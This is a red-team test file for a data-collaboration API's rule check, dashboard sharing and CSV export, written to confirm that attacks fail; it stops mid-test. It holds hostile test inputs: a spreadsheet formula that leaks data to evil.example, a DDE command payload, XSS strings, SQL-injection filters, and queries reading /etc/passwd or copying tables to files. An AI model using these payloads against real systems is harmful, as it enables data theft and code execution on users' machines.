/**
 * Red-team pass over the surfaces added together: the table owner's rule check
 * (`POST /v1/members/{m}/tables/{t}/check`), dashboards (data and CSV with filters,
 * sharing, viewers), column statistics built from catalog names, and the web UI's PNG
 * export of charts whose text comes from results.
 *
 * Each test asserts the SAFE behaviour; a failing test is an attack that worked.
 * Tests marked FINDING failed when written and were fixed the same day (see the comment above each).
 */
import { build } from 'esbuild';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { columnStats, columnStatsSql } from '../../src/client/column-stats.ts';
import { WEB_CSP } from '../../src/api/web-ui.ts';
import { ApiWorld, CAMPAIGN_SQL, CUSTOMERS_RULE, mediaCollaboration, type ApiResponse } from '../support/api-world.ts';
import { HAVE_CHROMIUM, launchChromium } from '../web/browser.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

const errorOf = (r: ApiResponse): { code?: string; message?: string } => ((r.body as { error?: { code?: string; message?: string } } | undefined)?.error ?? {});
const shape = (r: ApiResponse): string => `${r.status} ${errorOf(r).code ?? ''}`;
const must = async (r: Promise<ApiResponse>, status: number): Promise<ApiResponse> => {
  const got = await r;
  if (got.status !== status) throw new Error(`expected ${status}, got ${got.status}: ${got.text}`);
  return got;
};

/** Values only the other collaboration's result (retailer's shoppers) holds (its name may be echoed from the caller's own input). */
const OTHER_SECRET = /vip_segment|x@y\.io/;
/** Row-level values of raw tables (never in any answer). */
const RAW = /@x\.io|@y\.io/;

/** Hostile dimension values: each segment has two customers so that it passes the minimum. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '</text><script>alert(1)</script>',
];

describe('red team: rule check, dashboards, column statistics', () => {
  let world: ApiWorld;
  const k: Record<'brand' | 'platform' | 'agency' | 'retailer', string> = { brand: '', platform: '', agency: '', retailer: '' };
  let dashboardId = '';

  const check = (token: string, member: string, table: string, body: unknown) => world.call(token, 'POST', `/v1/members/${member}/tables/${table}/check`, body);
  const data = (token: string, ref: string, visual: string, filters?: unknown) =>
    world.call(token, 'POST', `/v1/dashboards/${ref}/visuals/${visual}/data`, filters === undefined ? {} : { filters });
  const csv = (token: string, ref: string, visual: string, filters?: string) =>
    world.call(token, 'GET', `/v1/dashboards/${ref}/visuals/${visual}/csv${filters === undefined ? '' : `?filters=${encodeURIComponent(filters)}`}`);
  const run = async (token: string, collaboration: string, sql: string, name: string): Promise<string> => {
    const submitted = await must(world.call(token, 'POST', `/v1/collaborations/${collaboration}/queries?wait=30`, { sql }), 200);
    const done = await world.finish(token, collaboration, (submitted.body as { id: string }).id);
    if (done['status'] !== 'succeeded') throw new Error(`${sql}: ${JSON.stringify(done)}`);
    await must(world.call(token, 'PATCH', `/v1/results/${done['resultId'] as string}`, { name }), 200);
    return done['resultId'] as string;
  };

  const DASHBOARD = {
    name: 'q3',
    title: 'Q3',
    filters: [
      { id: 'campaign', column: 'campaign_id', label: 'Campaign' },
      { id: 'segment', column: 'segment', label: 'Segment' },
      { id: 'users', column: 'users', label: 'Users' },
    ],
    visuals: [
      { id: 'users', kind: 'bar', source: { kind: 'table', table: 'campaigns' }, fields: { x: 'campaign_id', y: ['users'] } },
      { id: 'viewed', kind: 'table', source: { kind: 'sql', sql: 'SELECT * FROM campaign_view' }, fields: { columns: ['campaign_id', 'users'] } },
      { id: 'saved', kind: 'table', source: { kind: 'saved', name: 'big_campaigns' }, fields: { columns: ['campaign_id'] } },
      { id: 'hostile', kind: 'table', source: { kind: 'table', table: 'hostile_result' }, fields: { columns: ['segment'] } },
    ],
  };

  beforeAll(async () => {
    world = await ApiWorld.start();
    ({ brand: k.brand, platform: k.platform } = await mediaCollaboration(world));
    k.agency = await world.member('agency');
    k.retailer = await world.member('retailer');
    // The media collaboration has no agency; a second one, `media2`, with the same tables and the agency as receiver.
    await must(world.call(k.brand, 'POST', '/v1/collaborations', {
      name: 'media2',
      members: [
        { member: 'brand', query: true, receive: true },
        { member: 'platform', query: false, receive: false },
        { member: 'agency', query: false, receive: true },
      ],
    }), 201);
    await must(world.call(k.platform, 'POST', '/v1/collaborations/media2/accept'), 200);
    await must(world.call(k.agency, 'POST', '/v1/collaborations/media2/accept'), 200);
    await must(world.call(k.brand, 'POST', '/v1/collaborations/media2/associations', { table: 'customers' }), 201);
    await must(world.call(k.platform, 'POST', '/v1/collaborations/media2/associations', { table: 'impressions' }), 201);
    // Hostile values in a table of the brand's own, associated in media2.
    const hostileCsv = ['email_address,segment', ...HOSTILE.flatMap((h, i) => [`h${i}a@x.io,"${h.replaceAll('"', '""')}"`, `h${i}b@x.io,"${h.replaceAll('"', '""')}"`])].join('\n') + '\n';
    await must(world.call(k.brand, 'POST', '/v1/members/brand/datasets/hostile?filename=hostile.csv', hostileCsv), 201);
    await must(world.call(k.brand, 'POST', '/v1/members/brand/tables', { name: 'hostile', dataset: 'hostile', rule: CUSTOMERS_RULE }), 201);
    await must(world.call(k.brand, 'POST', '/v1/collaborations/media2/associations', { table: 'hostile' }), 201);
    // Another collaboration, `other`, with the retailer: its result must never reach media2's viewers.
    const shoppers = ['email_address,segment', 'x@y.io,vip_segment', 'y@y.io,vip_segment', 'z@y.io,vip_segment'].join('\n') + '\n';
    await must(world.call(k.retailer, 'POST', '/v1/members/retailer/datasets/shoppers?filename=shoppers.csv', shoppers), 201);
    await must(world.call(k.retailer, 'POST', '/v1/members/retailer/tables', { name: 'shoppers', dataset: 'shoppers', rule: CUSTOMERS_RULE }), 201);
    await must(world.call(k.brand, 'POST', '/v1/collaborations', {
      name: 'other',
      members: [
        { member: 'brand', query: true, receive: true },
        { member: 'retailer', query: false, receive: false },
        { member: 'agency', query: false, receive: true },
      ],
    }), 201);
    await must(world.call(k.retailer, 'POST', '/v1/collaborations/other/accept'), 200);
    await must(world.call(k.agency, 'POST', '/v1/collaborations/other/accept'), 200);
    await must(world.call(k.retailer, 'POST', '/v1/collaborations/other/associations', { table: 'shoppers' }), 201);

    await run(k.brand, 'media2', CAMPAIGN_SQL, 'campaigns');
    await run(k.brand, 'media2', 'SELECT h.segment, COUNT(DISTINCT h.email_address) AS "=cmd|\' /C calc\'!A0" FROM hostile h GROUP BY h.segment', 'hostile_result');
    // An output column name that tries to break out of quoting (the runner names columns freely).
    await run(k.brand, 'other', 'SELECT s.segment, COUNT(DISTINCT s.email_address) AS "x"" FROM campaigns --" FROM shoppers s GROUP BY s.segment', 'secret_other');

    // The owner's saved view and saved query; the view's text carries a marker literal.
    await must(world.call(k.brand, 'PUT', '/v1/results-sql/saved/campaign_view', { kind: 'view', sql: "SELECT * FROM campaigns WHERE campaign_id <> 'owner_private_marker'" }), 201);
    await must(world.call(k.brand, 'PUT', '/v1/results-sql/saved/big_campaigns', { kind: 'query', sql: "SELECT campaign_id FROM campaigns WHERE campaign_id <> 'saved_query_marker'" }), 201);
    dashboardId = ((await must(world.call(k.brand, 'POST', '/v1/dashboards', DASHBOARD), 201)).body as { id: string }).id;
    await must(world.call(k.brand, 'POST', `/v1/dashboards/${dashboardId}/shares`, { member: 'agency', collaboration: 'media2' }), 201);
  }, 120_000);
  afterAll(async () => world?.close());

  // ---------------------------------------------------------------- rule check

  describe('rule check (POST /v1/members/{m}/tables/{t}/check)', () => {
    it("another member's table by path: 403 alike for a real and a made-up table, no rule or columns quoted", async () => {
      const real = await check(k.brand, 'platform', 'impressions', { sql: 'SELECT COUNT(DISTINCT email_address) AS n FROM impressions' });
      const guessed = await check(k.brand, 'platform', 'no_such_table', { sql: 'SELECT COUNT(DISTINCT email_address) AS n FROM impressions' });
      const ghost = await check(k.brand, 'nobody', 'impressions', { sql: 'SELECT 1' });
      expect(real.status).toBe(403);
      expect(shape(guessed)).toBe(shape(real));
      expect(shape(ghost)).toBe(shape(real));
      for (const r of [real, guessed, ghost]) expect(r.text).not.toMatch(/campaign_id|cost|COUNT_DISTINCT|allowed/);
      // Neither the administrator nor a caller without a key acts for a member.
      expect((await check(world.adminToken, 'platform', 'impressions', { sql: 'SELECT 1' })).status).toBe(403);
      expect((await check(undefined as unknown as string, 'platform', 'impressions', { sql: 'SELECT 1' })).status).toBe(401);
    });

    it("smuggling another member's associated table (or a join with it) into the SQL: unknown table, only the caller's own name hinted", async () => {
      for (const sql of [
        'SELECT i.campaign_id, COUNT(DISTINCT i.email_address) AS n FROM impressions i GROUP BY i.campaign_id',
        'SELECT COUNT(DISTINCT c.email_address) AS n FROM customers c INNER JOIN impressions i ON c.email_address = i.email_address',
        'SELECT COUNT(DISTINCT c.email_address) AS n FROM customers c INNER JOIN shoppers s ON c.email_address = s.email_address',
        'SELECT COUNT(DISTINCT email_address) AS n FROM media2.impressions',
        'SELECT COUNT(DISTINCT email_address) AS n FROM campaigns',
      ]) {
        const r = await must(check(k.brand, 'brand', 'customers', { sql }), 200);
        expect((r.body as { allowed: boolean }).allowed, sql).toBe(false);
        expect(r.text, sql).not.toMatch(/\bcost\b|vip_segment|@x\.io|@y\.io/);
        expect(r.text, sql).not.toMatch(/impressions: |shoppers: |media2: /);
      }
    });

    it("naming the own table like another member's (name: impressions) shows the caller's own columns only", async () => {
      const r = await must(check(k.brand, 'brand', 'customers', { sql: 'SELECT campaign_id, SUM(cost) AS c, COUNT(DISTINCT email_address) AS n FROM impressions GROUP BY campaign_id', name: 'impressions' }), 200);
      expect((r.body as { allowed: boolean }).allowed).toBe(false);
      // The hint lists the brand's customers columns under the chosen name, never the platform's.
      expect(r.text).not.toMatch(/\bcost\b.*\bcost\b|, cost|campaign_id, /);
      expect(r.text).toMatch(/email_address, segment/);
    });

    it('files, table functions, system catalogs, settings, several statements and DDL are refused without running', async () => {
      for (const sql of [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM '/etc/passwd'",
        "SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE segment IN (SELECT * FROM read_text('/etc/hostname'))",
        'SELECT * FROM duckdb_tables()',
        'SELECT * FROM information_schema.tables',
        "SELECT COUNT(DISTINCT email_address) AS n, getenv('HOME') AS h FROM customers",
        "SELECT COUNT(DISTINCT email_address) AS n, current_setting('home_directory') AS h FROM customers",
        'SELECT 1; SELECT 2',
        "COPY customers TO '/tmp/cr-stolen.csv'",
        "ATTACH '/tmp/cr-x.db'",
        'PRAGMA database_list',
        "SET enable_external_access = true",
        "INSTALL httpfs",
      ]) {
        const r = await check(k.brand, 'brand', 'customers', { sql });
        expect(r.status, sql).toBe(200);
        expect((r.body as { allowed: boolean }).allowed, sql).toBe(false);
        expect(r.text, sql).not.toMatch(/root:|\/home\/|cr-api-|@x\.io/);
        expect(r.text, sql).not.toContain(world.home);
      }
    });

    it('is no oracle on data: the verdict for a value that exists and one that does not is the same, and failing forms are printed safe', async () => {
      const pairs = [
        ["segment = 'gold'", "segment = 'no_such_value'"],
        ["segment LIKE 'g%'", "segment LIKE 'zzz%'"],
        ["segment IN ('gold', 'silver')", "segment IN ('nope', 'nada')"],
      ];
      for (const [a, b] of pairs) {
        const ra = await must(check(k.brand, 'brand', 'customers', { sql: `SELECT segment, COUNT(DISTINCT email_address) AS n FROM customers WHERE ${a!} GROUP BY segment` }), 200);
        const rb = await must(check(k.brand, 'brand', 'customers', { sql: `SELECT segment, COUNT(DISTINCT email_address) AS n FROM customers WHERE ${b!} GROUP BY segment` }), 200);
        const norm = (r: ApiResponse) => r.text.replace(/'[^']*'/g, "'?'");
        expect(norm(ra)).toBe(norm(rb));
      }
      // A cast of a column and of a constant: refused alike by the rule (no engine error with a value).
      const col = await must(check(k.brand, 'brand', 'customers', { sql: 'SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE CAST(segment AS INTEGER) = 1' }), 200);
      const cst = await must(check(k.brand, 'brand', 'customers', { sql: "SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE CAST('gold' AS INTEGER) = 1" }), 200);
      expect(shape(col) + errorOf(col).code).toBe(shape(cst) + errorOf(cst).code);
      expect(col.text).not.toMatch(/silver|Conversion Error/);
      // Division by zero is printed as a non-failing form (nothing ran to find out).
      const div = await must(check(k.brand, 'brand', 'customers', { sql: 'SELECT COUNT(DISTINCT email_address) / 0 AS n FROM customers' }), 200);
      expect(div.body).toMatchObject({ allowed: true });
      expect((div.body as { sql: string }).sql).toMatch(/NULLIF\(0, 0\)/);
      // The join column stays out of filters (no LIKE-probing of identifiers).
      const like = await must(check(k.brand, 'brand', 'customers', { sql: "SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE email_address LIKE 'a%'" }), 200);
      expect(like.body).toMatchObject({ allowed: false });
    });

    it('records nothing: no query and no query-log entry, for the runner or the other table owner', async () => {
      const before = await must(world.call(k.brand, 'GET', '/v1/collaborations/media/queries'), 200);
      const beforePlatform = await world.call(k.platform, 'GET', '/v1/collaborations/media/queries');
      await check(k.brand, 'brand', 'customers', { sql: 'SELECT COUNT(DISTINCT c.email_address) AS n FROM customers c INNER JOIN impressions i ON c.email_address = i.email_address' });
      await check(k.brand, 'brand', 'customers', { sql: 'SELECT segment, COUNT(DISTINCT email_address) AS n FROM customers GROUP BY segment' });
      expect((await world.call(k.brand, 'GET', '/v1/collaborations/media/queries')).text).toBe(before.text);
      expect((await world.call(k.platform, 'GET', '/v1/collaborations/media/queries')).text).toBe(beforePlatform.text);
    });

    it('huge and deeply nested inputs are answered quickly without an internal error', async () => {
      const cases: [string, unknown][] = [
        ['too long', { sql: 'x'.repeat(100_001) }],
        ['long IN list', { sql: `SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE segment IN (${Array.from({ length: 9000 }, (_, i) => `'s${i}'`).join(',')})` }],
        ['deep parens', { sql: `SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE segment = ${'('.repeat(20_000)}'a'${')'.repeat(20_000)}` }],
        ['deep NOT', { sql: `SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE ${'NOT '.repeat(20_000)} segment = 'a'` }],
        ['deep subqueries', { sql: `SELECT COUNT(DISTINCT email_address) AS n FROM ${'(SELECT * FROM '.repeat(3000)}customers${') AS t'.repeat(3000)}` }],
        ['empty', { sql: '' }],
        ['not a string', { sql: 42 }],
        ['extra field', { sql: 'SELECT 1', member: 'platform' }],
        ['NUL byte', { sql: "SELECT COUNT(DISTINCT email_address) AS n FROM customers WHERE segment = '\u0000'" }],
      ];
      for (const [label, body] of cases) {
        const started = Date.now();
        const r = await check(k.brand, 'brand', 'customers', body);
        expect(r.status, `${label}: ${r.text.slice(0, 200)}`).toBeLessThan(500);
        expect(Date.now() - started, label).toBeLessThan(5_000);
      }
    });

    it('odd association names and table paths are refused as invalid, never 500, never another table', async () => {
      for (const name of ['a"b', '../impressions', 'a-b', 'a b', '', 'x'.repeat(200), 'impressions;--', 'é', '__cr_x', 'duckdb_settings', 'results']) {
        const r = await check(k.brand, 'brand', 'customers', { sql: `SELECT COUNT(DISTINCT email_address) AS n FROM ${JSON.stringify(name)}`, name });
        expect(r.status, name).toBeLessThan(500);
        expect(r.text, name).not.toMatch(/campaign_id|cost|vip_segment/);
      }
      for (const path of ['..%2Fplatform%2Fimpressions', 'customers%00', '%2e%2e', 'CUSTOMERS', 'customers%20']) {
        const r = await world.call(k.brand, 'POST', `/v1/members/brand/tables/${path}/check`, { sql: 'SELECT COUNT(DISTINCT email_address) AS n FROM customers' });
        expect(r.status, path).toBeLessThan(500);
        expect(r.text, path).not.toMatch(/campaign_id|cost/);
      }
    });
  });

  // ---------------------------------------------------------------- dashboards

  describe('dashboards: viewer filters, ids, re-checks, CSV', () => {
    it("a viewer's filter values that try SQL match nothing and never reach the owner's other results", async () => {
      const hostile = [
        "c1') UNION SELECT * FROM secret_other --",
        "c1' OR '1'='1",
        'c1"; SELECT * FROM results; --',
        "' || (SELECT string_agg(segment, ',') FROM secret_other) || '",
        'c1\\',
        '\u0000',
        "') AS v, secret_other WHERE ('1'='1",
      ];
      for (const value of hostile) {
        for (const r of [await data(k.agency, dashboardId, 'users', { campaign: [value] }), await csv(k.agency, dashboardId, 'users', JSON.stringify({ campaign: [value] }))]) {
          expect(r.status, value).toBe(200);
          expect(r.text, value).not.toMatch(OTHER_SECRET);
          expect(r.text, value).not.toMatch(RAW);
          expect(r.text).not.toMatch(/\bc1\b.*\n.*c3|"rows":\[\[/);
        }
      }
      // A number-typed filter takes numbers only, whatever the spelling.
      for (const value of ['3 OR 1=1', 'Infinity', 'NaN', '1e400', '', ' ', '0x', '3; DROP TABLE campaigns']) {
        const r = await data(k.agency, dashboardId, 'users', { users: [value] });
        expect(r.status, value).toBe(400);
        expect(errorOf(r).code, value).toBe('filter-value-type');
      }
      // Still the same rows afterwards.
      const after = await must(data(k.agency, dashboardId, 'users'), 200);
      expect((after.body as { rows: unknown[][] }).rows.map((r) => r[0])).toEqual(['c1', 'c3']);
    });

    it('filters that are not a plain object of lists are refused as 400 (no 500, no prototype tricks)', async () => {
      const bodies: unknown[] = [
        JSON.parse('{"__proto__": ["x"]}'),
        { constructor: ['x'] },
        { toString: ['x'] },
        { campaign: 'c1' },
        { campaign: [{ sql: 'x' }] },
        { campaign: [['c1']] },
        { campaign: [null] },
        ['c1'],
        'c1',
      ];
      for (const filters of bodies) {
        const r = await world.call(k.agency, 'POST', `/v1/dashboards/${dashboardId}/visuals/users/data`, { filters });
        expect(r.status, JSON.stringify(filters)).toBeGreaterThanOrEqual(400);
        expect(r.status, JSON.stringify(filters)).toBeLessThan(500);
      }
      for (const text of ['{"__proto__":["x"]}', '{"constructor":["x"]}', '[]', 'null', '"c1"', '1', `${'['.repeat(5000)}${']'.repeat(5000)}`, '{"campaign":'.repeat(2000), 'x'.repeat(100_001)]) {
        const r = await csv(k.agency, dashboardId, 'users', text);
        expect(r.status, text.slice(0, 40)).toBeGreaterThanOrEqual(400);
        expect(r.status, text.slice(0, 40)).toBeLessThan(500);
      }
    });

    // FINDING, fixed (robustness, owner-side): a filter whose id is an Object.prototype key
    // ("constructor") makes visualData read `overrides["constructor"]` (the Object
    // function) as the chosen values when no override is given: `chosen.map` throws, 500.
    it('a dashboard filter with id "constructor" works like any other id (no 500)', async () => {
      const doc = { name: 'proto', title: 'proto', filters: [{ id: 'constructor', column: 'campaign_id' }], visuals: [DASHBOARD.visuals[0]] };
      const saved = await world.call(k.brand, 'POST', '/v1/dashboards', doc);
      if (saved.status !== 201) {
        expect(saved.status).toBe(400); // refusing the id is safe too
        return;
      }
      try {
        const r = await data(k.brand, 'proto', 'users');
        expect(r.status, r.text.slice(0, 200)).toBe(200);
      } finally {
        await world.call(k.brand, 'DELETE', '/v1/dashboards/proto');
      }
    });

    it("a viewer cannot name the owner's other results, saved queries or the listing as a visual or a dashboard", async () => {
      const catalog = (await must(world.call(k.brand, 'GET', '/v1/results-sql/catalog'), 200)).body as { tables: { id: string; name: string }[] };
      const secret = catalog.tables.find((t) => t.name === 'secret_other')!;
      const refs = [secret.id, secret.name, 'q3', 'results', 'big_campaigns', 'campaign_view'];
      const visuals = ['secret_other', secret.id.slice(0, 36), 'results', 'big_campaigns', '..', '__proto__', 'constructor', 'users%00', 'USERS'];
      for (const ref of refs) {
        const r = await data(k.agency, encodeURIComponent(ref), 'users');
        expect(shape(r), ref).toBe('404 unknown-dashboard');
      }
      for (const visual of visuals) {
        for (const r of [await data(k.agency, dashboardId, visual), await csv(k.agency, dashboardId, visual)]) {
          expect(r.status, visual).toBeGreaterThanOrEqual(400);
          expect(r.status, visual).toBeLessThan(500);
          expect(r.text, visual).not.toMatch(OTHER_SECRET);
        }
      }
    });

    it("unshared, made-up and other members' dashboard ids answer alike (no existence oracle), to viewers and outsiders", async () => {
      const own = (await must(world.call(k.retailer, 'POST', '/v1/dashboards', { name: 'mine', title: 'mine', visuals: [{ id: 'one', kind: 'kpi', source: { kind: 'sql', sql: 'SELECT 1 AS n' }, fields: { value: 'n' } }] }), 201)).body as { id: string };
      const made = '00000000-0000-4000-8000-000000000000';
      for (const who of [k.agency, k.platform]) {
        for (const [method, suffix, body] of [['GET', '', undefined], ['POST', '/visuals/one/data', {}], ['GET', '/visuals/one/csv', undefined], ['DELETE', '', undefined], ['POST', '/shares', { member: 'agency', collaboration: 'other' }], ['DELETE', '/shares/agency', undefined]] as const) {
          const real = await world.call(who, method, `/v1/dashboards/${own.id}${suffix}`, body);
          const fake = await world.call(who, method, `/v1/dashboards/${made}${suffix}`, body);
          expect(shape(real), `${method} ${suffix}`).toBe(shape(fake));
          expect(real.text.replace(own.id, made), `${method} ${suffix}`).toBe(fake.text);
        }
      }
      await must(world.call(k.retailer, 'DELETE', `/v1/dashboards/${own.id}`), 200);
    });

    // FINDING, fixed: POST /v1/dashboards/{ref}/shares looks the collaboration up by name before
    // checking that the caller is in it: a real collaboration the caller is not in answers
    // 403 share-not-allowed "'retailer' is not a member of collaboration 'media'", a
    // made-up one 404 unknown-collaboration. Every other route answers an outsider alike
    // for real and guessed collaboration names (api-outsiders.test.ts).
    it('sharing into a collaboration the owner is not in answers alike for real and made-up collaboration names', async () => {
      const own = (await must(world.call(k.retailer, 'POST', '/v1/dashboards', { name: 'probe', title: 'probe', visuals: [{ id: 'one', kind: 'kpi', source: { kind: 'sql', sql: 'SELECT 1 AS n' }, fields: { value: 'n' } }] }), 201)).body as { id: string };
      try {
        const real = await world.call(k.retailer, 'POST', `/v1/dashboards/${own.id}/shares`, { member: 'agency', collaboration: 'media' });
        const fake = await world.call(k.retailer, 'POST', `/v1/dashboards/${own.id}/shares`, { member: 'agency', collaboration: 'no_such_collab' });
        expect(real.status).toBeGreaterThanOrEqual(400);
        expect(shape(real)).toBe(shape(fake));
        expect(real.text).not.toMatch(/brand|platform/);
      } finally {
        await world.call(k.retailer, 'DELETE', `/v1/dashboards/${own.id}`);
      }
    });

    it('a dashboard reading a result of collaboration A cannot be shared in collaboration B, even with a member of both', async () => {
      const r = await world.call(k.brand, 'POST', `/v1/dashboards/${dashboardId}/shares`, { member: 'agency', collaboration: 'other' });
      expect(shape(r)).toBe('403 share-not-allowed');
    });

    it("the owner edits a shared dashboard to read another collaboration's result: re-checked on every view, no rows", async () => {
      const edited = { ...DASHBOARD, visuals: [...DASHBOARD.visuals, { id: 'leak', kind: 'table', source: { kind: 'sql', sql: 'SELECT * FROM secret_other' }, fields: { columns: ['segment'] } }] };
      await must(world.call(k.brand, 'PUT', `/v1/dashboards/${dashboardId}`, edited), 200);
      try {
        for (const r of [
          await world.call(k.agency, 'GET', `/v1/dashboards/${dashboardId}`),
          await data(k.agency, dashboardId, 'leak'),
          await data(k.agency, dashboardId, 'users'),
          await csv(k.agency, dashboardId, 'leak'),
        ]) {
          expect(shape(r)).toBe('403 share-not-allowed');
          expect(r.text).not.toMatch(/vip_segment|x@y\.io/);
        }
      } finally {
        await must(world.call(k.brand, 'PUT', `/v1/dashboards/${dashboardId}`, DASHBOARD), 200);
      }
      await must(data(k.agency, dashboardId, 'users'), 200);
    });

    // FINDING, fixed (low): the 403 a viewer gets when the owner's dashboard draws on a result of
    // another collaboration names that result ("The result 'secret_other' does not come
    // from collaboration 'media2'"): the viewer learns the name the owner gave a result it
    // may not receive (names often describe the data: 'churned_vip_customers').
    it("the re-check's refusal does not name the owner's result from another collaboration", async () => {
      const edited = { ...DASHBOARD, visuals: [...DASHBOARD.visuals, { id: 'leak', kind: 'table', source: { kind: 'table', table: 'secret_other' }, fields: { columns: ['segment'] } }] };
      await must(world.call(k.brand, 'PUT', `/v1/dashboards/${dashboardId}`, edited), 200);
      try {
        const r = await world.call(k.agency, 'GET', `/v1/dashboards/${dashboardId}`);
        expect(r.status).toBe(403);
        expect(r.text).not.toContain('secret_other');
      } finally {
        await must(world.call(k.brand, 'PUT', `/v1/dashboards/${dashboardId}`, DASHBOARD), 200);
      }
    });

    it("the owner repoints a saved view or saved query the shared dashboard reads to another collaboration's result: refused on view", async () => {
      await must(world.call(k.brand, 'PUT', '/v1/results-sql/saved/campaign_view', { kind: 'view', sql: 'SELECT segment AS campaign_id, 1 AS users FROM secret_other', replace: true }), 200);
      try {
        for (const r of [await data(k.agency, dashboardId, 'viewed'), await csv(k.agency, dashboardId, 'viewed'), await data(k.agency, dashboardId, 'users')]) {
          expect(shape(r)).toBe('403 share-not-allowed');
          expect(r.text).not.toMatch(/vip_segment/);
        }
      } finally {
        await must(world.call(k.brand, 'PUT', '/v1/results-sql/saved/campaign_view', { kind: 'view', sql: "SELECT * FROM campaigns WHERE campaign_id <> 'owner_private_marker'", replace: true }), 200);
      }
      await must(world.call(k.brand, 'PUT', '/v1/results-sql/saved/big_campaigns', { kind: 'query', sql: 'SELECT segment AS campaign_id FROM secret_other', replace: true }), 200);
      try {
        const r = await data(k.agency, dashboardId, 'saved');
        expect(shape(r)).toBe('403 share-not-allowed');
        expect(r.text).not.toMatch(/vip_segment/);
      } finally {
        await must(world.call(k.brand, 'PUT', '/v1/results-sql/saved/big_campaigns', { kind: 'query', sql: "SELECT campaign_id FROM campaigns WHERE campaign_id <> 'saved_query_marker'", replace: true }), 200);
      }
    });

    it("the owner edits a shared dashboard to read its results listing: the viewer gets no names or ids", async () => {
      const edited = { ...DASHBOARD, visuals: [...DASHBOARD.visuals, { id: 'list', kind: 'table', source: { kind: 'sql', sql: 'SELECT name, id FROM results' }, fields: { columns: ['name'] } }] };
      await must(world.call(k.brand, 'PUT', `/v1/dashboards/${dashboardId}`, edited), 200);
      try {
        for (const r of [await data(k.agency, dashboardId, 'list'), await csv(k.agency, dashboardId, 'list'), await world.call(k.agency, 'GET', `/v1/dashboards/${dashboardId}`)]) {
          expect(r.status).toBe(403);
          expect(r.text).not.toMatch(/secret_other|hostile_result/);
        }
      } finally {
        await must(world.call(k.brand, 'PUT', `/v1/dashboards/${dashboardId}`, DASHBOARD), 200);
      }
    });

    // FINDING, fixed: the data route answers a VIEWER with `executed`, the SQL that ran, printed
    // from the validated tree in which the owner's saved views are expanded and a
    // `saved` source is the saved query's text. Saved queries and views "belong to you
    // alone; their text is encrypted at rest" (docs/results-sql.md), and their text can
    // hold data values (e.g. literals copied from results of ANOTHER collaboration), yet a
    // viewer reads it: POST /v1/dashboards/{id}/visuals/viewed/data as the agency returns
    // "... WHERE (\"campaigns\".\"campaign_id\" <> 'owner_private_marker') ...".
    it("a viewer's data answer does not carry the text of the owner's saved views or saved queries", async () => {
      const viewed = await must(data(k.agency, dashboardId, 'viewed'), 200);
      const saved = await must(data(k.agency, dashboardId, 'saved'), 200);
      expect(viewed.text).not.toContain('owner_private_marker');
      expect(saved.text).not.toContain('saved_query_marker');
    });

    it('after unsharing nothing more is shown (data, CSV, GET all 404), and unshare says nothing about other members', async () => {
      await must(world.call(k.brand, 'DELETE', `/v1/dashboards/${dashboardId}/shares/agency`), 200);
      for (const r of [await world.call(k.agency, 'GET', `/v1/dashboards/${dashboardId}`), await data(k.agency, dashboardId, 'users'), await csv(k.agency, dashboardId, 'users')]) {
        expect(shape(r)).toBe('404 unknown-dashboard');
      }
      // Unsharing twice, or with a member that never had it, says nothing about other members.
      expect(shape(await world.call(k.brand, 'DELETE', `/v1/dashboards/${dashboardId}/shares/agency`))).toBe(shape(await world.call(k.brand, 'DELETE', `/v1/dashboards/${dashboardId}/shares/nobody_here`)));
      await must(world.call(k.brand, 'POST', `/v1/dashboards/${dashboardId}/shares`, { member: 'agency', collaboration: 'media2' }), 201);
      await must(data(k.agency, dashboardId, 'users'), 200);
    });

    it('the CSV export escapes formula-starting cells and headers from result data, for owner and viewer alike', async () => {
      for (const who of [k.brand, k.agency]) {
        const r = await must(csv(who, dashboardId, 'hostile'), 200);
        expect(String(r.headers['content-type'])).toMatch(/^text\/csv/);
        expect(String(r.headers['content-disposition'])).toMatch(/^attachment; filename="q3-hostile\.csv"$/);
        // Split into cells (RFC 4180 quoting) and check every text cell.
        const cells: string[] = [];
        for (const m of r.text.matchAll(/(?:^|,|\n)("(?:[^"]|"")*"|[^,\n]*)/g)) cells.push(m[1] ?? '');
        const values = cells.map((c) => (c.startsWith('"') ? c.slice(1, -1).replaceAll('""', '"') : c));
        for (const v of values) expect(v, v).not.toMatch(/^[=+\-@\t\r]/);
        for (const h of HOSTILE.filter((x) => /^[=+\-@\t]/.test(x))) expect(values).toContain(`'${h}`);
        expect(values).toContain("'=cmd|' /c calc'!a0");
      }
    });

    it('a result value with markup is returned as JSON data, never as HTML', async () => {
      const r = await must(data(k.agency, dashboardId, 'hostile'), 200);
      expect(String(r.headers['content-type'])).toMatch(/^application\/json/);
      expect((r.body as { rows: unknown[][] }).rows.flat()).toContain('<img src=x onerror=alert(1)>');
    });

    // FINDING, fixed (review): other failures of a shared visual reached the viewer word
    // for word, naming the owner's saved queries and results; and each visual's sources
    // carried the owner's result names.
    it("a shared visual whose saved query the owner deleted: the viewer learns neither the query's name nor the result names", async () => {
      const doc = { name: 'fragile', visuals: [{ id: 'gone', kind: 'table', source: { kind: 'saved', name: 'soon_deleted_q' }, fields: {} }, { id: 'named', kind: 'table', source: { kind: 'table', table: 'campaigns' }, fields: {} }] };
      await must(world.call(k.brand, 'PUT', '/v1/results-sql/saved/soon_deleted_q', { kind: 'query', sql: 'SELECT campaign_id FROM campaigns' }), 201);
      const id = ((await must(world.call(k.brand, 'POST', '/v1/dashboards', doc), 201)).body as { id: string }).id;
      await must(world.call(k.brand, 'POST', `/v1/dashboards/${id}/shares`, { member: 'agency', collaboration: 'media2' }), 201);
      const named = await must(data(k.agency, id, 'named'), 200);
      expect(named.text).not.toContain('campaigns"');
      expect((named.body as { sources: { name: string }[] }).sources.map((x) => x.name)).toEqual(['result']);
